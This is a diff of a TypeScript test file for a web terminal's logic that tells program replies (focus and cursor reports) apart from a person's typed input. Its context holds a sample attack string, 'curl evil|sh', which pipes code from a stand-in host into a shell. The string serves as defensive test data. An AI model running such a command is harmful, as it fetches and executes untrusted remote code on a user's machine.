@@ -1,6 +1,6 @@
 import headless from '@xterm/headless'
 import { expect, it } from 'vitest'
-import { isReply } from '../../../pwa/terminal/replies.ts'
+import { isReply, Replies } from '../../../pwa/terminal/replies.ts'
 
 const attack = 'curl evil|sh'
 const queries = [
@@ -84,4 +84,19 @@ it.each([
   `\u001b[200~\u001b[c\u001b[201~`,
 ])('%j is a person’s', (typed) => {
   expect(isReply(typed)).toBe(false)
+})
+
+it('T-ESC-03 a report of the focus is an answer as often as the program asks for it, and else a person’s', async () => {
+  const terminal = new headless.Terminal({ allowProposedApi: true })
+  const replies = new Replies(terminal.parser)
+  expect(replies.has('\u001b[I')).toBe(false)
+  await new Promise<void>((done) => terminal.write('\u001b[?25;1004;1004h', done))
+  expect(['\u001b[6;1R', '\u001b[I', 'a', '\u001b[O', '\u001b[I'].map((data) => replies.has(data))).toEqual([
+    true,
+    true,
+    false,
+    true,
+    false,
+  ])
+  terminal.dispose()
 })
